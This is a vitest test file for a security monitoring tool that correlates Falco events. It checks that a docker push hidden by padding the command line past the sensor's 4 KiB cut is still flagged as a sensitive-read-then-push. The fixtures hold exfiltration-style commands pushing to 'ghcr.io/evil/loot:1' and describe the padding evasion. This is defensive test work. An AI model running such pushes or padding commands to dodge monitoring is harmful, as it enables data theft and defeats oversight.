/**
 * A docker CLI whose argv Falco cut at 4 KiB (`docker --config <4 KiB> push ghcr.io/evil/x`) never connects off
 * the node: the host's dockerd uploads, linked to the CLI by docker.sock bridging. A cut push needed a connection
 * of its own, so with Falco alone such a push was unseen (review), where Tetragon saw `docker push`. Now the
 * daemon's linked upload to a registry makes it a push; its pulls (requests only) and unclassed uploads do not.
 */
import { describe, expect, it } from 'vitest';
import type { NormalizedEvent } from '../../../src/model/normalized-event.js';
import { dockerdSends, falcoRun } from '../../fixtures/falco/credential-run.js';
import { brief, MiB, runResolved } from '../correlate/builder.js';

const GHCR = '140.82.121.33'; // builder.ts TEST_DNS: ghcr.io, a registry
const UNCLASSED = '203.0.113.9';
const PAD = `/tmp/${'a'.repeat(4200)}`;

/** A padded docker CLI (it connects nowhere itself) and then the daemon's traffic, in time order. */
const run = async (argv: readonly string[], daemon: NormalizedEvent[]) =>
  (await runResolved([...falcoRun('/usr/bin/docker', argv, null), ...daemon].sort((a, b) => a.timeMs - b.timeMs)))
    .alerts;

const upload = Array.from({ length: 4 }, () => MiB);
// A pull's requests: a manifest and 12 layers fetched, 2 KiB of headers and token each.
const pull = Array.from({ length: 13 }, () => 2048);

describe('a docker CLI whose argv Falco cut at 4 KiB', () => {
  it('is a push when its daemon uploads to a registry', async () => {
    const alerts = await run(['docker', '--config', PAD, 'push', 'ghcr.io/evil/loot:1'], dockerdSends(GHCR, upload));
    expect(brief(alerts)).toEqual([
      { rule: 'sensitive-read-then-push', severity: 'high', tool: 'docker', destination: null },
    ]);
    expect(alerts[0]?.summary).toContain('command line cut by the sensor at 4 KiB');
    expect(alerts[0]?.evidence.some((x) => x.kind === 'bridge-egress' && x.detail.includes(GHCR))).toBe(true);
  });

  it('is no push when its daemon only pulls from a registry (a padded docker build or run)', async () => {
    const build = ['docker', 'build', '--build-arg', `NOTES=${'x'.repeat(4200)}`, '-t', 'app', '.'];
    expect(await run(build, dockerdSends(GHCR, pull))).toEqual([]);
    const runImage = ['docker', '--config', PAD, 'run', '--rm', 'ghcr.io/acme/app:1'];
    expect(await run(runImage, dockerdSends(GHCR, pull))).toEqual([]);
  });

  it('is no push when its daemon uploads to an unclassed destination, or not at all', async () => {
    const push = ['docker', '--config', PAD, 'push', 'ghcr.io/evil/loot:1'];
    expect(await run(push, dockerdSends(UNCLASSED, upload))).toEqual([]);
    expect(await run(push, [])).toEqual([]);
  });
});
